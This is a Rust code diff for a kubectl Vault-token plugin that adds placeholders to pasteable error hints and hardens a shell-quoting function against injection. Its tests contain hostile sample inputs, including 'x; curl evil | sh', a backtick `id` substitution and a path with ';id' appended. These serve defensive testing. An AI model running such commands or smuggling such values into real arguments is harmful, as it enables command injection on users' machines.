@@ -5,6 +5,7 @@
 
 use std::borrow::Cow;
 use std::fmt;
+use std::path::PathBuf;
 
 use serde::{Deserialize, Serialize};
 
@@ -51,8 +52,7 @@ pub trait Explain: std::error::Error {
     fn exit_code(&self) -> ExitCode;
     /// Why, where it is known: the server's own words or the reason of a check of ours.
     fn why(&self) -> Option<String>;
-    /// The command (or the change) that mends it. `{program}` stands for the form in which this
-    /// program was called, `{profile}` for ` PROFILE` of the call, or nothing without one.
+    /// The command (or the change) that mends it, with the placeholders of [`Calling`].
     fn hint(&self) -> Option<String>;
 }
 
@@ -180,18 +180,47 @@ impl Explain for Failure {
 }
 
 /// How this program was called, so that a hint can be pasted as it stands.
-#[derive(Debug, Clone, PartialEq, Eq)]
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct Calling {
-    /// `kubectl vaulttoken` or `kubectl-vaulttoken`.
+    /// `{program}`: `kubectl vaulttoken` or `kubectl-vaulttoken`.
     pub program: String,
-    /// The profile of this call, once it is known.
+    /// `{profile}`, behind a blank: the profile of this call, once it is known.
     pub profile: Option<String>,
+    /// `{source}`, with a blank before each: where no profile is meant, the flags that describe what
+    /// stands for one.
+    pub source: String,
+    /// `{vault}`, likewise: the flags that name the Vault, where the profile does not.
+    pub vault: String,
+    /// `{config}`, behind a blank and its flag: the settings file that this call named.
+    pub config: Option<PathBuf>,
 }
 
 impl Calling {
     fn complete(&self, hint: &str) -> String {
-        let profile = self.profile.as_ref().map(|profile| format!(" {profile}"));
-        hint.replace("{program}", &self.program).replace("{profile}", &profile.unwrap_or_default())
+        let profile = self.profile.as_ref().map(|profile| format!(" {}", shell_word(profile)));
+        let config =
+            self.config.as_ref().map(|file| format!(" --config {}", shell_word(&file.to_string_lossy())));
+        let source = if profile.is_some() { "" } else { &self.source };
+        // Security: no word that was put in holds a placeholder, see `shell_word`.
+        hint.replace("{program}", &self.program)
+            .replace("{profile}", &profile.unwrap_or_default())
+            .replace("{source}", source)
+            .replace("{vault}", &self.vault)
+            .replace("{config}", &config.unwrap_or_default())
+    }
+}
+
+/// A word of a command that a hint offers for pasting.
+///
+/// Security: names may be a kubeconfig's. None may end the word and begin a command, nor hold a
+/// placeholder, whose words would end the quotation.
+#[must_use]
+pub fn shell_word(text: &str) -> Cow<'_, str> {
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_./:@%+".contains(&byte);
+    if !text.is_empty() && text.bytes().all(is_plain) {
+        Cow::Borrowed(text)
+    } else {
+        Cow::Owned(format!("'{}'", text.replace('\'', r"'\''").replace('{', "{''")))
     }
 }
 
@@ -224,19 +253,6 @@ pub fn printable(text: &str) -> String {
     line
 }
 
-/// A word as a shell takes it, for commands that are there to be pasted.
-///
-/// Security: names in them may be a kubeconfig's or a server's.
-#[must_use]
-pub fn shell_word(text: &str) -> Cow<'_, str> {
-    let is_plain = |character: char| character.is_alphanumeric() || "-_./:@+%".contains(character);
-    if !text.is_empty() && text.chars().all(is_plain) {
-        Cow::Borrowed(text)
-    } else {
-        Cow::Owned(format!("'{}'", text.replace('\'', r"'\''")))
-    }
-}
-
 /// Characters that make text on a terminal read in another order than it is written.
 fn is_direction_override(character: char) -> bool {
     matches!(character, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
@@ -264,6 +280,39 @@ mod tests {
     }
 
     #[test]
+    fn a_word_for_the_shell_is_one_word() {
+        assert_eq!(shell_word("kubernetes/prod-1_a.b"), "kubernetes/prod-1_a.b");
+        assert_eq!(shell_word("x; curl evil | sh"), "'x; curl evil | sh'");
+        assert_eq!(shell_word("x'`id`'"), r"'x'\''`id`'\'''");
+        assert_eq!(shell_word("~"), "'~'");
+        assert_eq!(shell_word(""), "''");
+        // A placeholder would be filled with quotes of our own.
+        assert_eq!(shell_word("a{config}"), "'a{''config}'");
+    }
+
+    #[test]
+    fn a_hint_repeats_what_the_call_named() {
+        let hint = "{program} trust{profile}{source}{config} --context 'a{''config}'";
+        let mut calling = Calling {
+            program: "kubectl-vaulttoken".into(),
+            source: " --source=vault-kv".into(),
+            config: Some("/my settings;id".into()),
+            ..Calling::default()
+        };
+        assert_eq!(
+            calling.complete(hint),
+            "kubectl-vaulttoken trust --source=vault-kv --config '/my settings;id' --context 'a{''config}'"
+        );
+        calling.profile = Some("prod".into());
+        assert_eq!(
+            calling.complete(hint),
+            "kubectl-vaulttoken trust prod --config '/my settings;id' --context 'a{''config}'"
+        );
+        calling.vault = " --vault=corp".into();
+        assert_eq!(calling.complete("login{profile}{vault}"), "login prod --vault=corp");
+    }
+
+    #[test]
     fn a_report_says_what_why_and_what_to_run_in_that_order() {
         let error = Error::Earlier(Failure {
             exit_code: ExitCode::LoginRequired,
@@ -271,7 +320,11 @@ mod tests {
             why: Some("no session".into()),
             hint: Some("{program} login{profile}".into()),
         });
-        let calling = Calling { program: "kubectl vaulttoken".into(), profile: Some("prod".into()) };
+        let calling = Calling {
+            program: "kubectl vaulttoken".into(),
+            profile: Some("prod".into()),
+            ..Calling::default()
+        };
         assert_eq!(
             error.report(&calling),
             "error: profile `prod`: log-in required\n  why: no session\n  try: kubectl vaulttoken login prod\n"
